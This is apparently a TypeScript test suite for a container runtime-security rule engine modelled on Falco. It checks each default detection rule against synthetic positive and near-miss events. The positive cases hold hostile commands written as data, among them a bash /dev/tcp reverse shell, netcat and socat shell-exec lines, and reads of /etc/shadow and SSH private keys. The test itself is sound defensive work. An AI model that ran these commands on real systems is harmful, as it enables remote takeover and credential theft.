/**
 * The shipped default rules (data/runtime/rules/default.yaml): each fires on a positive synthetic event
 * (exactly that rule, nothing else) and stays quiet on a near miss. Metadata addresses appear only in
 * synthetic events; nothing here touches the network.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { before, describe, it } from 'node:test';

import type { RuntimeEvent } from '../../src/runtime/events.js';
import { DEFAULT_RULES_FILE, RuleEngine, loadRuleEngine } from '../../src/runtime/rules/index.js';

const C = { id: 'c'.repeat(64), name: 'shop', imageRepository: 'registry.example/shop/api', imageTag: '3' };
const T = 1_700_000_000_000;

function exec(args: string[], opts: { container?: boolean; tty?: boolean; pname?: string } = {}): RuntimeEvent {
  const name = args[0]!.split('/').pop()!;
  return {
    time: T,
    type: 'exec',
    sensor: 'synthetic',
    proc: { pid: 100, ppid: 1, name, exepath: args[0]!.startsWith('/') ? args[0] : `/usr/bin/${name}`, args, pname: opts.pname ?? 'runc', uid: 0, tty: opts.tty ?? false },
    ...(opts.container === false ? {} : { container: C }),
  };
}
function file(type: RuntimeEvent['type'], path: string, procName = 'cp', opts: { container?: boolean; target?: string } = {}): RuntimeEvent {
  return {
    time: T,
    type,
    sensor: 'synthetic',
    proc: { pid: 200, name: procName, args: [procName], uid: 0 },
    file: { path, ...(opts.target ? { target: opts.target } : {}) },
    ...(opts.container === false ? {} : { container: C }),
  };
}
function net(type: 'connect' | 'listen' | 'accept', dip: string | undefined, dport: number | undefined, procName = 'python3', container = true): RuntimeEvent {
  return {
    time: T,
    type,
    sensor: 'synthetic',
    proc: { pid: 300, name: procName, args: [procName] },
    net: { protocol: 'tcp', sip: '172.17.0.2', sport: type === 'listen' ? 4444 : 51000, ...(dip ? { dip, dport } : {}) },
    ...(container ? { container: C } : {}),
  };
}
function other(type: RuntimeEvent['type'], arg: string | number, container = true): RuntimeEvent {
  return { time: T, type, sensor: 'synthetic', proc: { pid: 400, name: 'x', args: ['x'] }, arg, ...(container ? { container: C } : {}) };
}

// [rule, positive event(s), near-miss event(s)]
const CASES: [string, RuntimeEvent[], RuntimeEvent[]][] = [
  [
    'Terminal shell in container',
    [exec(['/bin/bash'], { tty: true }), exec(['/bin/sh', '-i'], { tty: true })],
    [exec(['/bin/bash'], { tty: false }), exec(['/bin/bash'], { tty: true, container: false }), exec(['/usr/bin/python3'], { tty: true })],
  ],
  [
    'Package management process in container',
    [exec(['/usr/bin/apt-get', 'install', '-y', 'curl']), exec(['/usr/bin/dpkg', '-i', 'x.deb']), exec(['/sbin/apk', 'add', 'nmap']), exec(['/usr/local/bin/pip', 'install', 'x']), exec(['/usr/bin/npm', 'i']), exec(['/usr/bin/dnf', 'install', 'x'])],
    [exec(['/usr/bin/apt-get', 'update'], { container: false }), exec(['/usr/bin/apt-cache', 'policy']), exec(['/usr/bin/aptly'])],
  ],
  [
    'Write below binary dir',
    [
      file('open_write', '/usr/bin/evil'),
      file('open_write', '/usr/local/sbin/x'),
      file('open_write', '/usr/lib/x86_64-linux-gnu/libc.so.6'),
      file('unlink', '/bin/ls'),
      file('chmod', '/sbin/x'),
      file('rename', '/tmp/dropper', 'mv', { target: '/usr/bin/dropper' }),
    ],
    [
      file('open_write', '/usr/binx/evil'),
      file('open_write', '/tmp/evil'),
      file('open_read', '/usr/bin/ls'),
      file('open_write', '/usr/bin/evil', 'cp', { container: false }),
      file('open_write', '/usr/bin/curl', 'dpkg'), // package managers are the other rule's business
      file('rename', '/tmp/a', 'mv', { target: '/tmp/b' }),
    ],
  ],
  [
    'Read sensitive file untrusted',
    [file('open_read', '/etc/shadow', 'cat'), file('open_read', '/etc/sudoers', 'python3', { container: false }), file('open_read', '/etc/sudoers.d/admins', 'cat'), file('open_read', '/root/.ssh/id_ed25519', 'tar'), file('open_read', '/etc/ssh/ssh_host_rsa_key', 'cat')],
    [file('open_read', '/etc/shadow', 'sshd'), file('open_read', '/etc/shadow', 'unix_chkpwd'), file('open_read', '/etc/passwd', 'cat'), file('open_read', '/root/.ssh/id_ed25519.pub', 'cat'), file('open_read', '/etc/ssh/ssh_host_rsa_key.pub', 'cat'), file('open_read', '/home/u/id_rsa', 'cat')],
  ],
  [
    'Contact K8S API Server From Container',
    [net('connect', '10.0.0.1', 6443), net('connect', '192.168.1.10', 6443)],
    [net('connect', '10.0.0.1', 6443, 'python3', false), net('connect', '10.0.0.1', 443), net('connect', '10.0.0.1', 64430)],
  ],
  [
    'Contact cloud metadata service from container',
    [net('connect', '169.254.169.254', 80), net('connect', 'fd00:ec2::254', 80), net('connect', '169.254.170.2', 80)],
    [net('connect', '169.254.169.254', 80, 'python3', false), net('connect', '169.254.169.253', 80), net('connect', 'fd00:ec2::25', 80)],
  ],
  [
    'Netcat remote code execution',
    [exec(['/bin/nc', '-e', '/bin/sh', '10.0.0.9', '4444']), exec(['/usr/bin/ncat', '10.0.0.9', '4444', '--sh-exec', 'sh'], { container: false }), exec(['/usr/bin/socat', 'TCP:10.0.0.9:4444', 'EXEC:/bin/bash'])],
    [exec(['/bin/nc', '-z', '10.0.0.9', '80']), exec(['/usr/bin/socat', 'TCP-LISTEN:8080', 'TCP:127.0.0.1:80']), exec(['/usr/bin/curl', '-e', 'x'])],
  ],
  [
    'Netcat network activity in container',
    [net('connect', '10.0.0.9', 4444, 'nc'), net('listen', undefined, undefined, 'ncat'), net('accept', '10.0.0.9', 4444, 'socat')],
    [net('connect', '10.0.0.9', 4444, 'nc', false), net('connect', '10.0.0.9', 4444, 'curl')],
  ],
  [
    'Reverse shell',
    [exec(['/bin/bash', '-c', 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1']), net('connect', '10.0.0.9', 4444, 'bash'), net('connect', '10.0.0.9', 4444, 'sh', false)],
    [exec(['/bin/bash', '-c', 'echo /dev/tc']), net('listen', undefined, undefined, 'bash'), exec(['/usr/bin/cat', '/dev/tcp/x'])],
  ],
  [
    'SSH reverse tunnel from container',
    [exec(['/usr/bin/ssh', '-R', '8080:localhost:80', 'u@h']), exec(['/usr/bin/ssh', '-N', '-R8080:localhost:80', 'u@h'])],
    [exec(['/usr/bin/ssh', '-L', '8080:localhost:80', 'u@h']), exec(['/usr/bin/ssh', '-R', '8080:localhost:80', 'u@h'], { container: false })],
  ],
  [
    'Delete or rename shell history',
    [file('unlink', '/root/.bash_history', 'rm'), file('rename', '/home/u/.zsh_history', 'mv', { container: false, target: '/tmp/x' })],
    [file('open_write', '/root/.bash_history', 'bash'), file('unlink', '/root/.bash_historyx', 'rm')],
  ],
  ['Ptrace attached to process in container', [other('ptrace', 1)], [other('ptrace', 1, false)]],
  ['Mount in container', [other('mount', '/mnt')], [other('mount', '/mnt', false)]],
  ['Linux kernel module loaded', [other('module_load', 'nf_tables', false)], [other('mount', 'nf_tables', false)]],
];

describe('shipped default rules', () => {
  let engine: RuleEngine;
  before(async () => {
    engine = await loadRuleEngine();
  });

  it('every shipped rule has a positive and a near-miss case here', () => {
    assert.deepEqual(
      engine.rules.map((r) => r.def.name).sort(),
      CASES.map((c) => c[0]).sort(),
    );
  });

  for (const [rule, positives, misses] of CASES) {
    describe(rule, () => {
      positives.forEach((ev, i) => {
        it(`fires (exactly this rule) on positive #${i + 1}: ${ev.type} ${ev.proc?.args?.join(' ') ?? ''} ${ev.file?.path ?? ev.net?.dip ?? ev.arg ?? ''}`, () => {
          const alerts = engine.evaluate(ev);
          assert.deepEqual(alerts.map((a) => a.rule), [rule]);
          assert.ok(!alerts[0]!.output.includes('%'), alerts[0]!.output);
          assert.equal(alerts[0]!.event, ev);
        });
      });
      misses.forEach((ev, i) => {
        it(`does not fire on near miss #${i + 1}: ${ev.type} ${ev.proc?.args?.join(' ') ?? ''} ${ev.file?.path ?? ev.net?.dip ?? ev.arg ?? ''}`, () => {
          assert.ok(!engine.evaluate(ev).some((a) => a.rule === rule));
        });
      });
    });
  }

  it('renders outputs with the container and the event', () => {
    const [alert] = engine.evaluate(net('connect', '169.254.169.254', 80, 'curl'));
    assert.equal(
      alert?.output,
      'Outbound connection to a cloud metadata service from a container (command=curl connection=172.17.0.2:51000->169.254.169.254:80 container_id=cccccccccccc image=registry.example/shop/api)',
    );
    assert.equal(alert?.priority, 'WARNING');
    assert.ok(alert?.tags.includes('T1552.005'));
  });

  it('the file is our own Falco-style YAML with lists, macros and rules', async () => {
    const text = await readFile(DEFAULT_RULES_FILE, 'utf8');
    assert.match(text, /^- list: package_mgmt_binaries$/m);
    assert.match(text, /^- macro: spawned_process$/m);
  });
});
